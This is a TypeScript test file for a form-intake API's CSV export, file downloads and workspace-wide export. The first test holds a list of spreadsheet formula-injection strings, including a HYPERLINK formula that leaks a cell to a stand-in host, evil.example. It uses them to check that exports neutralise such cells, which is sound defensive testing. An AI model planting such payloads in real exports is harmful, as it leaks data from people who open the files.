/**
 * What leaves the server as a file (issue 9 items 7 and 11): the CSV export neutralises cells a
 * spreadsheet would run as formulas, and file downloads name any stored file name (RFC 6266 /
 * RFC 8187 `filename*`) instead of failing with 500.
 */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { parse } from "csv-parse/sync";
import contentDisposition from "content-disposition";
import { createTestApi, type TestApi } from "../../../test/helpers/api.ts";

let api: TestApi;
let link: any;
const base = () => `/api/v1/intake/${api.ws.workspace_slug}/${link.slug}`;

/** A 1×1 PNG and a minimal PDF: real bytes, whatever the intake checks. */
const PNG = Uint8Array.from(atob("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="), (c) => c.charCodeAt(0));
const PDF = new TextEncoder().encode("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");

beforeAll(async () => {
  api = await createTestApi();
  link = (
    await api.call("POST", "/api/v1/links/", {
      body: {
        name: "Formulas",
        questions: [
          { prompt: "Comment", type: "text" },
          { prompt: "Score", type: "number" },
          { prompt: "Attachment", type: "file_upload", configuration: { allowed_types: ["image/png", "application/pdf"] } },
        ],
      },
    })
  ).json;
});
afterAll(() => api.close());

/** A respondent's session with a comment, a score and (optionally) an uploaded file. */
async function respond(comment: string, score: number | null, file?: { name: string; bytes: Uint8Array; type: string }): Promise<string> {
  const sid = (await api.call("POST", `${base()}/sessions/`, { key: null, body: {} })).json.session_id;
  expect((await api.call("PUT", `${base()}/sessions/${sid}/answers/${link.questions[0].uuid}/`, { key: null, body: { value: comment } })).status).toBe(200);
  if (score !== null)
    expect((await api.call("PUT", `${base()}/sessions/${sid}/answers/${link.questions[1].uuid}/`, { key: null, body: { value: score } })).status).toBe(200);
  if (file) {
    const form = new FormData();
    form.append("file", new Blob([file.bytes as Uint8Array<ArrayBuffer>], { type: file.type }), file.name);
    const up = await api.app.handle(
      new Request(`http://localhost${base()}/sessions/${sid}/answers/${link.questions[2].uuid}/file/`, { method: "POST", body: form }),
    );
    expect([file.name, up.status]).toEqual([file.name, 200]);
  }
  return sid;
}

test("CSV export neutralises formula cells, file names included; numbers stay numbers", async () => {
  const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1+1", "\r=1+1", "＝1+1"];
  const sids: string[] = [];
  for (const [i, text] of hostile.entries())
    sids.push(await respond(text, i === 0 ? -3 : null, i === 0 ? { name: "=1+2.png", bytes: PNG, type: "image/png" } : undefined));
  sids.push(await respond("plain words", 7));

  const res = await api.app.handle(
    new Request(`http://localhost/api/v1/links/${link.uuid}/responses/export/?format=csv`, { headers: { authorization: `Bearer ${api.ws.api_key}` } }),
  );
  expect(res.status).toBe(200);
  const rows = parse(await res.text(), { relax_column_count: false }) as string[][];
  const [header, ...body] = rows;
  const col = (name: string) => header!.indexOf(name);
  const bySession = new Map(body.map((r) => [r[col("session_id")]!, r]));
  const [comment, score, attachment] = link.questions.map((q: any) => col(q.field_key));

  for (const [i, text] of hostile.entries()) {
    // The intake may trim surrounding whitespace; whatever it stored is prefixed with "'".
    const cell = bySession.get(sids[i]!)![comment]!;
    expect([text, cell.startsWith("'")]).toEqual([text, true]);
    expect(cell.slice(1).trim()).toBe(text.trim());
  }
  expect(bySession.get(sids[0]!)![attachment]).toBe("'=1+2.png");
  expect(bySession.get(sids[0]!)![score]).toBe("-3");
  expect(bySession.get(sids.at(-1)!)![comment]).toBe("plain words");
  expect(bySession.get(sids.at(-1)!)![score]).toBe("7");
  // No cell of any row starts with a formula character.
  for (const r of body) for (const c of r) if (c !== "-3") expect(/^[=+\-@\t\r＝＋－＠]/.test(c)).toBe(false);
});

test("file downloads carry any stored file name via filename*, with an ASCII fallback", async () => {
  const names = ["文件.pdf", "Report — final.pdf", "🎉 party.png", "back\\slash; semi, comma.pdf", "=1+2.png"];
  for (const name of names) {
    const isPng = name.endsWith(".png");
    const sid = await respond("with a file", null, { name, bytes: isPng ? PNG : PDF, type: isPng ? "image/png" : "application/pdf" });
    const rec = (await api.call("GET", `/api/v1/links/${link.uuid}/responses/?status=all&page_size=100`)).json.results.find((r: any) => r.session_id === sid);
    const file = rec.answers.find((a: any) => a.response_type === "file_upload").file;
    expect(file.name).toBe(name);
    const res = await api.app.handle(new Request(file.url, { headers: { authorization: `Bearer ${api.ws.api_key}` } }));
    expect([name, res.status]).toEqual([name, 200]);
    const header = res.headers.get("content-disposition")!;
    expect(/^[\x20-\x7e]+$/.test(header)).toBe(true);
    const parsed = contentDisposition.parse(header);
    expect(parsed.type).toBe("attachment");
    // Path separators are saved as "_" (no browser keeps them in a file name).
    expect(parsed.parameters.filename).toBe(name.replace(/[\\/]/g, "_"));
    expect(new Uint8Array(await res.arrayBuffer())).toEqual(isPng ? PNG : PDF);
  }
});

test("the workspace-wide export covers every link (a link_uuid column, every field_key) and takes link= and the filters", async () => {
  const other = (await api.call("POST", "/api/v1/links/", { body: { name: "Second link", questions: [{ prompt: "Mood", type: "text", field_key: "mood" }] } }))
    .json;
  const sid = (await api.call("POST", `/api/v1/intake/${api.ws.workspace_slug}/${other.slug}/sessions/`, { key: null, body: {} })).json.session_id;
  expect(
    (
      await api.call("PUT", `/api/v1/intake/${api.ws.workspace_slug}/${other.slug}/sessions/${sid}/answers/${other.questions[0].uuid}/`, {
        key: null,
        body: { value: "calm" },
      })
    ).status,
  ).toBe(200);
  await api.call("POST", `/api/v1/intake/${api.ws.workspace_slug}/${other.slug}/sessions/${sid}/submit/`, { key: null, body: {} });
  const mine = await respond("from the first link", 4);

  const csv = await api.call("GET", "/api/v1/responses/export/?format=csv");
  expect(csv.status).toBe(200);
  expect(csv.headers.get("content-disposition")).toContain("responses.csv");
  const [header, ...rows] = parse(csv.text) as string[][];
  expect(header!.slice(0, 7)).toEqual(["response_uuid", "session_id", "status", "respondent_email", "date_created", "submitted_at", "link_uuid"]);
  expect(header).toEqual(expect.arrayContaining([link.questions[0].field_key, "mood"]));
  const bySession = new Map(rows.map((r) => [r[1], Object.fromEntries(header!.map((h, i) => [h, r[i]]))]));
  expect(bySession.get(sid)).toMatchObject({ link_uuid: other.uuid, mood: "calm" });
  expect(bySession.get(mine)).toMatchObject({ link_uuid: link.uuid, [link.questions[0].field_key]: "from the first link" });

  const onlyOther = await api.call("GET", `/api/v1/responses/export/?format=jsonl&link=${other.uuid}`);
  const lines = onlyOther.text
    .trim()
    .split("\n")
    .map((l) => JSON.parse(l));
  expect(onlyOther.headers.get("content-type")).toContain("application/x-ndjson");
  expect(lines.map((r) => r.session_id)).toEqual([sid]);
  const completed = await api.call("GET", "/api/v1/responses/export/?format=jsonl&status=completed");
  expect(
    completed.text
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l).session_id),
  ).toEqual([sid]);
  expect((await api.call("GET", "/api/v1/responses/export/?link=not-a-uuid")).status).toBe(400);
});
